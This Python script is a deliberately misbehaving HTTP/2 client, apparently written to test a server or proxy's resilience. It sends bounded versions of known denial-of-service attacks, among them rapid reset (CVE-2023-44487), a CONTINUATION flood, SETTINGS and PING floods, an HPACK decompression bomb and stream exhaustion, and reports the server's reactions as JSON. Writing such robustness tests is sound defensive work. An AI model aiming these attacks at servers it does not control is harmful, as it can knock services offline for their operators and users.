"""A raw HTTP/2 client that misbehaves on purpose, one way per CASE, against an h2c listener.

usage: h2_abuse.py CASE HOST PORT

Frames are written by hand (HPACK blocks by the `hpack` package), so nothing stops the client
from breaking the protocol. Prints one JSON line: what the server did —
  goaway      [last_stream_id, error_code] of a GOAWAY received, or null
  resets      {stream: error_code} of RST_STREAM frames received
  statuses    {stream: ":status"} of responses received
  body        {stream: bytes} of DATA received
  closed      whether the server closed the connection
  sent        frames written before the server stopped reading or closed
Bounded: every case writes a fixed number of frames and reads for at most a few seconds.

CASES: rapid_reset, continuation_flood, settings_flood, ping_flood, hpack_bomb, too_many_streams,
oversized_headers, duplicate_pseudo, missing_pseudo, uppercase_header, zero_window, max_window,
never_reads [SECONDS], slow_request
"""
import json
import socket
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + (stream & 0x7FFFFFFF).to_bytes(4, "big") + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in pairs))


class Peer:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.buffer = b""
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.result = {"goaway": None, "resets": {}, "statuses": {}, "body": {}, "closed": False, "sent": 0}

    def send(self, data, frames=1):
        try:
            self.sock.sendall(data)
            self.result["sent"] += frames
            return True
        except OSError:
            self.result["closed"] = True
            return False

    def read(self, seconds):
        """Reads and parses frames until the connection closes or `seconds` pass."""
        end = time.monotonic() + seconds
        self.sock.settimeout(0.2)
        while time.monotonic() < end and not self.result["closed"]:
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                self.result["closed"] = True
                break
            self.buffer += chunk
            self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9 : 9 + length]
            self.buffer = self.buffer[9 + length :]
            if kind == GOAWAY:
                self.result["goaway"] = [int.from_bytes(payload[:4], "big"), int.from_bytes(payload[4:8], "big")]
            elif kind == RST_STREAM:
                self.result["resets"][str(stream)] = int.from_bytes(payload[:4], "big")
            elif kind == HEADERS:
                try:
                    for name, value in self.decoder.decode(payload):
                        if name in (":status", b":status"):
                            self.result["statuses"][str(stream)] = value if isinstance(value, str) else value.decode()
                except Exception as error:  # noqa: BLE001 - reported, not raised
                    self.result["decode_error"] = str(error)
            elif kind == DATA:
                self.result["body"][str(stream)] = self.result["body"].get(str(stream), 0) + length
            elif kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))

    def start(self, pairs=(), wait=0.5):
        self.send(PREFACE + settings(pairs))
        self.read(wait)


def integer(value, prefix_bits, flags=0):
    """An HPACK integer with an N-bit prefix (RFC 7541 §5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out = bytearray([flags | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 | 0x80)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value, flags=0x00, prefix_bits=4):
    """A literal field with a new name, not Huffman coded; without indexing unless `flags` says."""
    name, value = name.encode(), value.encode()
    return integer(0, prefix_bits, flags) + integer(len(name), 7) + name + integer(len(value), 7) + value


def block(fields):
    """A header block of literals without indexing: no dynamic-table state on either side."""
    return b"".join(literal(n, v) for n, v in fields)


def request(encoder=None, path="/", extra=(), authority="abuse"):
    return block([(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path), *extra])


def main():
    case, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    peer = Peer(host, port)
    encoder = None
    if case == "zero_window":
        peer.start([(0x4, 0)])  # SETTINGS_INITIAL_WINDOW_SIZE = 0
    elif case == "max_window":
        peer.start([(0x4, 0x7FFFFFFF)])
    else:
        peer.start()

    if case == "rapid_reset":
        # Open a stream and cancel it at once, again and again (CVE-2023-44487).
        stream = 1
        for _ in range(100):
            batch = b""
            for _ in range(50):
                batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, request(encoder))
                batch += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                stream += 2
            if not peer.send(batch, 100):
                break
            peer.read(0.01)
        peer.read(2)
    elif case == "continuation_flood":
        # One header block that never ends (CVE-2024-27983).
        peer.send(frame(HEADERS, 0, 1, request(encoder)))
        for _ in range(10000):
            if not peer.send(frame(CONTINUATION, 0, 1, b"\x40\x01x\x01y")):
                break
        peer.read(2)
    elif case == "settings_flood":
        # SETTINGS the server must ACK, while this client reads nothing.
        for _ in range(200):
            if not peer.send(settings([(0x3, 100)]) * 500, 500):
                break
        peer.read(2)
    elif case == "ping_flood":
        for _ in range(200):
            if not peer.send(frame(PING, 0, 0, b"12345678") * 500, 500):
                break
        peer.read(2)
    elif case == "hpack_bomb":
        # One 4,000-byte entry in the dynamic table, then 16,000 one-byte references to it: 64 MB
        # of header list from a 16 KB block.
        entry = literal("x", "a" * 4000, flags=0x40, prefix_bits=6)  # with incremental indexing
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + entry))
        peer.read(0.5)
        bomb = request(encoder) + bytes([0x80 | 62]) * 16000
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb))
        peer.read(2)
    elif case == "too_many_streams":
        # Requests that stay open (no END_STREAM), past the advertised limit.
        batch = b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, request(encoder)) for i in range(150))
        peer.send(batch, 150)
        peer.read(5)  # returns at the close; a loaded machine may take longer than 2 s
    elif case == "oversized_headers":
        # 90 KB of header list, as HEADERS and CONTINUATION frames within the frame size.
        fields = request(encoder, extra=[("x-big", "b" * 15000)] * 6)
        pieces = [fields[i : i + 16384] for i in range(0, len(fields), 16384)]
        data = frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), 1, pieces[0])
        for i, piece in enumerate(pieces[1:], start=1):
            data += frame(CONTINUATION, END_HEADERS if i == len(pieces) - 1 else 0, 1, piece)
        peer.send(data, len(pieces))
        peer.read(2)
    elif case == "slow_request":
        # A request that takes 1.5 s, while the test drains the proxy.
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(encoder, path="/delay/1500")))
        peer.read(8)  # returns at the close; 4 s was once too short on a loaded machine
    elif case == "never_reads":
        # A large response asked for, then nothing read for a while (the test watches memory).
        peer.send(frame(WINDOW_UPDATE, 0, 0, (0x7FFFFFFF - 65535).to_bytes(4, "big")))
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(encoder, path="/bytes/268435456")))
        time.sleep(float(sys.argv[4]) if len(sys.argv) > 4 else 3)
    elif case == "duplicate_pseudo":
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(encoder, extra=[(":path", "/again")])))
        peer.read(1)
    elif case == "missing_pseudo":
        fields = block([(":method", "GET"), (":authority", "abuse"), (":path", "/")])
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, fields))
        peer.read(1)
    elif case == "uppercase_header":
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(encoder, extra=[("X-Upper", "1")])))
        peer.read(1)
    elif case == "zero_window":
        # No window for the response body: headers only, until the client opens it.
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(encoder, path="/bytes/1048576")))
        peer.read(1.5)
        peer.result["body_before_window"] = peer.result["body"].get("1", 0)
        peer.send(frame(WINDOW_UPDATE, 0, 1, (1 << 30).to_bytes(4, "big")))
        peer.send(frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")))
        peer.read(3)
    elif case == "max_window":
        peer.send(frame(WINDOW_UPDATE, 0, 0, (0x7FFFFFFF - 65535).to_bytes(4, "big")))
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(encoder, path="/bytes/4194304")))
        peer.read(5)
    else:
        sys.exit(f"unknown case {case!r}")

    # Where the connection survived, a good request on a new stream still gets an answer.
    if not peer.result["closed"] and peer.result["goaway"] is None:
        good = 1001
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, good, request(encoder, path="/after")))
        peer.read(1.5)
        peer.result["after"] = peer.result["statuses"].get(str(good))
    peer.sock.close()
    print(json.dumps(peer.result), flush=True)


if __name__ == "__main__":
    main()
